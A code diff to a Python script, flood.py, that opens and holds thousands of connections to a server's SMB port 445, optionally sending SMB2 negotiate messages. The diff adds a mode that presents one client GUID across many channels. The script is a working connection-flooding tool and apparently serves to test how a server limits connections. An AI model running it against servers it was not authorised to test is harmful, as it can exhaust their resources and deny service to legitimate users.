@@ -1,8 +1,9 @@
-"""Opens connections to a server's port 445 and keeps them: python3 flood.py HOST FROM COUNT idle|negotiate
+"""Opens connections to a server's port 445 and keeps them: python3 flood.py HOST FROM COUNT idle|negotiate|channels
 
-FROM is the address to come from. Prints `open N` when it has tried them all, and on each line of its stdin `alive N`: how many the server
+FROM is the address to come from; `negotiate` begins SMB as another client each time, `channels` as one client with many channels. Prints `open N` when it has tried them all, and on each line of its stdin `alive N`: how many the server
 has not closed. Ends with its stdin.
 """
+import os
 import resource
 import socket
 import struct
@@ -12,7 +13,12 @@ host, source, count, what = sys.argv[1:]
 resource.setrlimit(resource.RLIMIT_NOFILE, (20_000, 20_000))
 
 HEADER = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ", 64, 0, 0, 0, 31, 0, 0, 0, 0, 0, 0) + bytes(16)
-NEGOTIATE = HEADER + struct.pack("<HHHHI", 36, 1, 1, 0, 0) + b"\1" * 16 + bytes(8) + struct.pack("<H", 0x0302)
+
+
+def negotiate():
+    client = b"\1" * 16 if what == "channels" else os.urandom(16)
+    message = HEADER + struct.pack("<HHHHI", 36, 1, 1, 0, 0) + client + bytes(8) + struct.pack("<H", 0x0302)
+    return struct.pack(">I", len(message)) + message
 
 
 def opened():
@@ -21,8 +27,8 @@ def opened():
     place.bind((source, 0))
     try:
         place.connect((host, 445))
-        if what == "negotiate":
-            place.sendall(struct.pack(">I", len(NEGOTIATE)) + NEGOTIATE)
+        if what != "idle":
+            place.sendall(negotiate())
     except OSError:
         place.close()
         return None
